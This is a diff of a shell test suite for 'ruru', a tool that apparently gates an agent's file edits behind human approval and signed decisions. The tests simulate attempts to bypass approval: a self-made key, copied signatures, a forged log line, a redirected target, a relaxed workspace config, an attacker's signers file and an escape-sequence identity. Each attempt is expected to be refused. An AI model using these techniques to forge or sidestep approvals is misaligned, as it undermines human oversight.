 	[[ "${lines[1]}" == "$a  withdrawn  t  (content, 2026-"*")" ]]
 	[ "${#lines[@]}" -eq 2 ]
-	run "$RURU" confirm approve "$a"
-	[ "$status" -eq 5 ]
-	run "$RURU" confirm withdraw "$a"
-	[ "$status" -eq 5 ]
-	run "$RURU" confirm propose --target t --content p2 --supersedes "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm approve "$a"
+	run -5 "$RURU" confirm withdraw "$a"
+	run -5 "$RURU" confirm propose --target t --content p2 --supersedes "$a"
 	"$RURU" confirm approve "$b"
 	run mcp confirm_withdraw "{\"artifact\": \"$b\", \"reason\": \"not needed\"}"
 	[[ "$output" == OK*'"status": "withdrawn"'* ]]
 	# the answer is read back from the disk: the payload is intact
 	[[ "$output" == *'"payload_intact": true'* ]]
-	run "$RURU" confirm apply "$b"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$b"
 	[ "$(cat t)" = old ]
 	# temp mode: clean removes withdrawn, rejected and applied pairs only
 	"$RURU" complete; rm .ruru/sessions/.active
 	for x in w r k q; do echo "$x" > "$x.txt"; done
 	w=$(propose w.txt p1); r=$(propose r.txt p1); k=$(propose k.txt p1); q=$(propose q.txt p1)
 	"$RURU" confirm withdraw "$w"; "$RURU" confirm reject "$r"; "$RURU" confirm approve "$q"
-	run "$RURU" confirm clean
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" confirm clean
 	[ "$(printf '%s\n' "$output" | sort)" = "$(printf '%s\n' "$r" "$w" | sort)" ]
 	[ ! -e "$w" ] && [ ! -e "$(sidecar "$w")" ] && [ ! -e "$r" ]
 	[ -e "$k" ] && [ -e "$q" ] && [ -e .ruru/temp/decisions.log ]
@@ -1147,8 +1046,7 @@ PY
 	a=$(approved)
 	base=$(basename "$a"); stem=${base%.md}
 	for form in "artifacts/$base" "$base" "$stem" "${stem}.toml" "$(sidecar "$a")"; do
-		run "$RURU" confirm show "$form"
-		[ "$status" -eq 0 ] || { echo "$form: $status $output"; return 1; }
+		run -0 "$RURU" confirm show "$form" || { echo "$form: $status $output"; return 1; }
 		[[ "$output" == *"artifact:  $a"* ]]
 	done
 	mkdir -p sub && (cd sub && "$RURU" confirm show "../$a" >/dev/null)
@@ -1163,11 +1061,9 @@ PY
 	printf 'old\n' > t
 	b=$(propose t p)
 	[ "$(basename "$b")" = "$base" ]
-	run "$RURU" confirm show "$base"
-	[ "$status" -eq 2 ]
+	run -2 "$RURU" confirm show "$base"
 	[[ "$output" == *ambiguous*"$a"*"$b"* || "$output" == *ambiguous*"$b"*"$a"* ]]
-	run "$RURU" confirm show CONFIRM-nothing-like-it
-	[ "$status" -eq 3 ]
+	run -3 "$RURU" confirm show CONFIRM-nothing-like-it
 }
 
 # Every write of `confirm apply` failed in turn: afterwards target, sidecar
@@ -1189,8 +1085,7 @@ fault_round() {
 					[ "$(cat t)" = new ] || { echo "$step:$n: target torn"; return 1; }
 					[[ "$output" == *"again"* ]] || { echo "$step:$n: $output"; return 1; }
 				fi
-				run "$RURU" confirm apply "$a"
-				[ "$status" -eq 0 ] || { echo "$step:$n: retry: $status $output"; return 1; }
+				run -0 "$RURU" confirm apply "$a" || { echo "$step:$n: retry: $status $output"; return 1; }
 			fi
 			[ "$(cat t)" = new ] || { echo "$step:$n: not applied"; return 1; }
 			if [ "$mode" = session ]; then
@@ -1219,57 +1114,41 @@ fault_round() {
 	# 1. the target written, the sidecar and the log not (rollback failed too)
 	a=$(approved)
 	cp "$a" t
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	run -0 "$RURU" confirm apply "$a" || { echo "$output"; return 1; }
 	[ "$(status_of "$a")" = applied ]
 	# 2. target and sidecar written, the log entry lost
 	b=$(approved)
 	cp "$b" t
 	sed -i 's/^status = .*/status = "applied"/' "$(sidecar "$b")"
 	n=$(results)
-	run "$RURU" confirm apply "$b"
-	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	run -0 "$RURU" confirm apply "$b" || { echo "$output"; return 1; }
 	[ "$(results)" -eq $((n + 1)) ]
 	# 3. the target put back, but the sidecar still says applied
 	c=$(approved)
 	sed -i 's/^status = .*/status = "applied"/' "$(sidecar "$c")"
-	run "$RURU" confirm apply "$c"
-	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	run -0 "$RURU" confirm apply "$c" || { echo "$output"; return 1; }
 	[ "$(cat t)" = new ]
 	[ "$(grep -c "result.*$(basename "$c").*outcome \`success\`" "$(log_of)")" -eq 1 ]
 	# and once recorded, it is a refusal that logs nothing
 	n=$(results)
-	run "$RURU" confirm apply "$c"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$c"
 	[ "$(results)" -eq "$n" ]
 }
 
 # ---------------------------------------------------------------------
 # Signed decisions (doc/design.md §16).
 
-# A throwaway user configuration: a key for alice, allowed_signers naming
-# her, and the requirement on.
 # A fresh pending proposal of `new` for t (old); echoes the artifact.
 fresh() {
 	printf 'old\n' > t; printf 'other\n' > other.txt; printf 'new\n' > p
 	propose t p
 }
 
-signing_setup() {
-	export XDG_CONFIG_HOME=$WS/.userconf
-	mkdir -p "$XDG_CONFIG_HOME/ruru" keys
-	ssh-keygen -q -t ed25519 -N '' -C alice -f keys/alice
-	ssh-keygen -q -t ed25519 -N '' -C mallory -f keys/mallory
-	echo "alice@example.org $(cut -d' ' -f1,2 keys/alice.pub)" > "$XDG_CONFIG_HOME/ruru/allowed_signers"
-	printf '[confirm]\nrequire_signature = true\n' > "$XDG_CONFIG_HOME/ruru/config.toml"
-}
-
 @test "signed decisions: a valid signature by an allowed signer is applied (key file and ssh-agent)" {
 	signing_setup
 	"$RURU" new "Signed" >/dev/null
 	a=$(fresh)
-	run "$RURU" confirm approve --key keys/alice --as alice@example.org "$a"
-	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	run -0 "$RURU" confirm approve --key keys/alice --as alice@example.org "$a" || { echo "$output"; return 1; }
 	grep -qx 'signed_by = "alice@example.org"' "$(sidecar "$a")"
 	grep -q '^signature = "-----BEGIN SSH SIGNATURE-----' "$(sidecar "$a")"
 	# the signature holds for 7 days (RURU_NOW + 7d)
@@ -1302,13 +1181,11 @@ signing_setup() {
 	"$RURU" new "Forge" >/dev/null
 	# unsigned
 	a=$(approved)
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]; [[ "$output" == *"not signed"* ]]
+	run -5 "$RURU" confirm apply "$a"; [[ "$output" == *"not signed"* ]]
 	# signed by a key the agent made itself (not an allowed signer)
 	b=$(fresh)
 	"$RURU" confirm approve --key keys/mallory --as alice@example.org "$b"
-	run "$RURU" confirm apply "$b"
-	[ "$status" -eq 5 ]; [[ "$output" == *"not a valid signature"* ]]
+	run -5 "$RURU" confirm apply "$b"; [[ "$output" == *"not a valid signature"* ]]
 	# a valid signature copied from another decision
 	c=$(fresh)
 	"$RURU" confirm approve --key keys/alice --as alice@example.org "$c"
@@ -1316,8 +1193,7 @@ signing_setup() {
 	"$RURU" confirm approve "$e"
 	sig=$(grep '^signature = ' "$(sidecar "$c")")
 	printf 'signed_by = "alice@example.org"\n%s\n' "$sig" >> "$(sidecar "$e")"
-	run "$RURU" confirm apply "$e"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$e"
 	# a forged "Signed by" line in the log with the copied signature
 	python3 - "$(log_of)" "$(basename "$e")" <<'PY'
 import sys
@@ -1330,19 +1206,16 @@ for i, l in enumerate(lines):
         out.append("  Signed by `alice@example.org`")
 open(p, "w").write("\n".join(out))
 PY
-	run "$RURU" confirm apply "$e"
-	[ "$status" -eq 5 ]; [[ "$output" == *"not a valid signature"* ]]
+	run -5 "$RURU" confirm apply "$e"; [[ "$output" == *"not a valid signature"* ]]
 	# a signed approval whose sidecar was redirected afterwards
 	f=$(fresh)
 	"$RURU" confirm approve --key keys/alice --as alice@example.org "$f"
 	sed -i 's|^target_path = .*|target_path = "other.txt"|' "$(sidecar "$f")"
-	run "$RURU" confirm apply "$f"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$f"
 	# the workspace cannot name signers or relax the user's requirement
 	mkdir -p .ruru
 	printf '[confirm]\nrequire_signature = false\nallowed_signers = "keys/mallory.pub"\n' > .ruru/config.toml
-	run "$RURU" confirm apply "$b"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$b"
 	[ "$(cat t)" = old ] && [ "$(cat other.txt)" = other ]
 	# the genuine one still applies
 	"$RURU" confirm apply "$c"
@@ -1356,12 +1229,10 @@ PY
 	"$RURU" new "Team" >/dev/null
 	printf '[confirm]\nrequire_signature = true\n' > .ruru/config.toml
 	a=$(approved)
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[[ "$output" == *"no allowed_signers"* ]]
 	echo "alice@example.org $(cut -d' ' -f1,2 keys/alice.pub)" > "$XDG_CONFIG_HOME/ruru/allowed_signers"
-	run "$RURU" confirm apply "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$a"
 	[[ "$output" == *"not signed"* ]]
 	# confirm.sign = true: decisions are signed with git's signing key and email
 	printf '[confirm]\nrequire_signature = true\nsign = true\n' > .ruru/config.toml
@@ -1384,15 +1255,13 @@ PY
 	b=$(fresh); "$RURU" confirm reject "$b"
 	c=$(fresh); "$RURU" confirm withdraw "$c"
 	d=$(fresh)
-	run "$RURU" verify
-	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	run -0 "$RURU" verify || { echo "$output"; return 1; }
 	[ "$output" = "Checked 4 proposals: no problems." ]
 	run "$RURU" --json verify
 	echo "$output" | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["ok"] and d["proposals"]==4 and d["problems"]==[], d'
 	# an applied target changed since: information only
 	echo later > ap.txt
-	run "$RURU" verify
-	[ "$status" -eq 0 ]
+	run -0 "$RURU" verify
 	[[ "$output" == "ap.txt:1:1: note: the target no longer holds the result of $a"* ]]
 	# a sidecar redirected after its decision
 	sed -i 's|^target_path = .*|target_path = "other.txt"|' "$(sidecar "$b")"
@@ -1403,8 +1272,7 @@ PY
 	e=$(fresh); sed -i 's/^status = .*/status = "approved"/' "$(sidecar "$e")"
 	# the workspace naming signers
 	printf '[confirm]\nallowed_signers = "mine"\n' > .ruru/config.toml
-	run "$RURU" verify
-	[ "$status" -eq 4 ]
+	run -4 "$RURU" verify
 	[[ "$output" == *"$(sidecar "$b"):$line:1: error: target_path differs from the decision recorded at $(log_of):"* ]]
 	[[ "$output" == *"$d:1:1: error: the payload does not hash to payload_sha256"* ]]
 	[[ "$output" == *"$(sidecar "$e"):"*": the sidecar says approved, but $(log_of) records no decision"* ]]
@@ -1412,8 +1280,7 @@ PY
 	[[ "$output" == *"Checked 5 proposals: 5 problems, 4 of them errors." ]] || { echo "$output"; false; }
 	run mcp confirm_verify '{}'
 	[[ "$output" == OK*'"problems": ['*'target_path differs'* ]]
-	run "$RURU" verify SESSION-nope
-	[ "$status" -eq 3 ]
+	run -3 "$RURU" verify SESSION-nope
 }
 
 @test "verify: signatures are checked when present or required" {
@@ -1422,8 +1289,7 @@ PY
 	a=$(fresh); "$RURU" confirm approve --key keys/alice --as alice@example.org "$a"
 	b=$(fresh); "$RURU" confirm approve --key keys/mallory --as alice@example.org "$b"
 	c=$(fresh); "$RURU" confirm approve "$c"
-	run "$RURU" verify
-	[ "$status" -eq 4 ]
+	run -4 "$RURU" verify
 	[[ "$output" != *"$(basename "$a")"* ]]
 	[[ "$output" == *"not a valid signature"*"$(basename "$b")"* || "$output" == *"$(basename "$b")"*"not a valid signature"* ]]
 	[[ "$output" == *"decision on \"$c\" is not signed"* ]]
@@ -1439,15 +1305,12 @@ PY
 	a=$(propose t p); "$RURU" confirm approve "$a"
 	# other staged changes: refused before anything is written
 	echo y > other.txt; git add other.txt
-	run "$RURU" confirm apply --commit "$a"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply --commit "$a"
 	[[ "$output" == *"staged changes"* ]]
 	[ "$(cat t)" = old ] && [ "$(status_of "$a")" = approved ]
 	git reset -q other.txt
-	run "$RURU" confirm apply --message "--message alone" "$a"
-	[ "$status" -eq 2 ]
-	run "$RURU" confirm apply --commit --message "Apply the approved edit" "$a"
-	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	run -2 "$RURU" confirm apply --message "--message alone" "$a"
+	run -0 "$RURU" confirm apply --commit --message "Apply the approved edit" "$a" || { echo "$output"; return 1; }
 	[ "$(cat t)" = new ]
 	[ "$(git show --name-only --format= HEAD)" = t ]
 	git log -1 --format=%B | git interpret-trailers --parse > trailers
@@ -1459,8 +1322,7 @@ PY
 	# outside a git work tree
 	rm -rf .git
 	b=$(fresh); "$RURU" confirm approve "$b"
-	run "$RURU" confirm apply --commit "$b"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply --commit "$b"
 	[ "$(cat t)" = old ]
 }
 
@@ -1471,8 +1333,7 @@ PY
 	ssh-keygen -q -t ed25519 -N '' -C mallory -f keys/mallory
 	mkdir -p "$XDG_CONFIG_HOME/ruru"
 	printf '# mine\n[ui]\ncolor = false\n' > "$XDG_CONFIG_HOME/ruru/config.toml"
-	run "$RURU" init --signing --key keys/alice --as alice@example.org
-	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	run -0 "$RURU" init --signing --key keys/alice --as alice@example.org || { echo "$output"; return 1; }
 	[[ "$output" == *"now allows the ssh-ed25519 key of alice@example.org"* ]]
 	grep -qx "alice@example.org namespaces=\"ruru-confirm\" $(cut -d' ' -f1,2 keys/alice.pub)" "$XDG_CONFIG_HOME/ruru/allowed_signers"
 	"$RURU" toml get "$XDG_CONFIG_HOME/ruru/config.toml" confirm.require_signature | grep -qx true
@@ -1487,23 +1348,19 @@ import json, sys; s = json.loads(sys.argv[1])["signing"]
 assert s["identity"] == "alice@example.org" and s["key_type"] == "ssh-ed25519" and s["added"] is False, s
 assert s["config"].endswith("/ruru/config.toml") and s["allowed_signers"].endswith("/ruru/allowed_signers"), s
 assert sorted(s) == ["added", "allowed_signers", "config", "identity", "key_type"], s' "$output"
-	run "$RURU" init --key keys/alice
-	[ "$status" -eq 2 ]
+	run -2 "$RURU" init --key keys/alice
 	# the user's key may live anywhere, outside the workspace too
 	out=$(mktemp -d "${BATS_TMPDIR:-/tmp}/ruru-key.XXXXXX")
 	ssh-keygen -q -t ed25519 -N '' -C bob -f "$out/bob"
-	run "$RURU" init --signing --key "$out/bob" --as bob@example.org
-	[ "$status" -eq 0 ] || { rm -rf "$out"; echo "$output"; return 1; }
+	run -0 "$RURU" init --signing --key "$out/bob" --as bob@example.org || { rm -rf "$out"; echo "$output"; return 1; }
 	run "$RURU" init --signing --key "../$(basename "$out")/bob.pub" --as bob@example.org
 	rm -rf "$out"
 	[[ "$output" == *"already allowed"* ]] || { echo "$output"; return 1; }
 	# an identity is text: no control characters (doc/design.md §2), one word
 	"$RURU" new "Ident" >/dev/null
 	x=$(fresh)
-	run "$RURU" confirm approve --key keys/alice --as $'alice\e[31m' "$x"
-	[ "$status" -eq 4 ]
-	run "$RURU" confirm approve --key keys/alice --as 'alice smith' "$x"
-	[ "$status" -eq 2 ]
+	run -4 "$RURU" confirm approve --key keys/alice --as $'alice\e[31m' "$x"
+	run -2 "$RURU" confirm approve --key keys/alice --as 'alice smith' "$x"
 	[ "$(status_of "$x")" = pending ]
 	"$RURU" complete
 	"$RURU" new "Anchor" >/dev/null
@@ -1522,8 +1379,7 @@ assert sorted(s) == ["added", "allowed_signers", "config", "identity", "key_type
 	echo "alice@example.org $(cut -d' ' -f1,2 keys/mallory.pub)" > evil_signers
 	git config gpg.ssh.allowedSignersFile "$WS/evil_signers"
 	c=$(fresh); "$RURU" confirm approve --key keys/mallory --as alice@example.org "$c"
-	run "$RURU" confirm apply "$c"
-	[ "$status" -eq 5 ]
+	run -5 "$RURU" confirm apply "$c"
 	[ "$(cat t)" = old ]
 }
 
@@ -1539,8 +1395,7 @@ assert sorted(s) == ["added", "allowed_signers", "config", "identity", "key_type
 	b=$("$RURU" confirm propose --target d.txt --diff d.diff); "$RURU" confirm skip --rationale small "$b"
 	"$RURU" confirm apply "$b"
 	c=$(propose t p)                                   # pending: no record
-	run "$RURU" export --agent-trace
-	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	run -0 "$RURU" export --agent-trace || { echo "$output"; return 1; }
 	printf '%s\n' "$output" > trace.jsonl
 	[ "$(python3 "$BATS_TEST_DIRNAME/schema_check.py" "$BATS_TEST_DIRNAME/../data/agent-trace-record.schema.json" < trace.jsonl)" = 2 ]
 	python3 - "$a" "$b" "$(git rev-parse HEAD~0)" "$(cat .ruru/sessions/.active)" <<'PY'
@@ -1565,10 +1420,8 @@ PY
 	# stable: the same records again
 	run "$RURU" export --agent-trace
 	[ "$output" = "$(cat trace.jsonl)" ]
-	run "$RURU" export
-	[ "$status" -eq 2 ]
-	run "$RURU" --json export --agent-trace SESSION-nope
-	[ "$status" -eq 3 ]
+	run -2 "$RURU" export
+	run -3 "$RURU" --json export --agent-trace SESSION-nope
 }
 
 @test "the same edit proposed twice warns, naming the earlier proposal still pending" {
